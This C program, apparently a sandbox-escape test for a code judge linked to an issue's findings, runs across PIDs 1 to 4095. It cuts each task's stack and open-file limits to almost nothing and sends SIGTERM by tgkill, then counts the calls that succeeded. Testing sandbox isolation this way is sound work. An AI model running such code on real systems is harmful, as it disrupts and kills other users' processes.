/* prlimit attack: lowers RLIMIT_STACK and RLIMIT_NOFILE of every task it
   can name (pids and tids of its namespace, by number) and sends SIGTERM to
   each by tgkill, as a thread of the judge's side would take it (issue 24,
   findings 1 and 2); prints how many calls succeeded. prlimit limits:
   prints the stack and open-file limits this run was given. */
#define _GNU_SOURCE
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
	struct rlimit lim;
	if (argc > 1 && strcmp(argv[1], "limits") == 0) {
		getrlimit(RLIMIT_STACK, &lim);
		printf("stack %llu", (unsigned long long)lim.rlim_cur);
		getrlimit(RLIMIT_NOFILE, &lim);
		printf(" nofile %llu\n", (unsigned long long)lim.rlim_cur);
		return 0;
	}
	pid_t me = getpid(), parent = getppid();
	struct rlimit small = {8192, 8192}, none = {0, 0};
	int changed = 0, signalled = 0;
	for (pid_t t = 1; t < 4096; t++) {
		if (t == me) continue;
		if (prlimit(t, RLIMIT_STACK, &small, NULL) == 0) changed++;
		if (prlimit(t, RLIMIT_NOFILE, &none, NULL) == 0) changed++;
	}
	for (pid_t t = 1; t < 4096; t++) {
		if (t == me) continue;
		if (syscall(SYS_tgkill, 1, t, SIGTERM) == 0) signalled++;
		if (parent != 1 && syscall(SYS_tgkill, parent, t, SIGTERM) == 0) signalled++;
	}
	printf("changed %d signalled %d\n", changed, signalled);
	return 0;
}
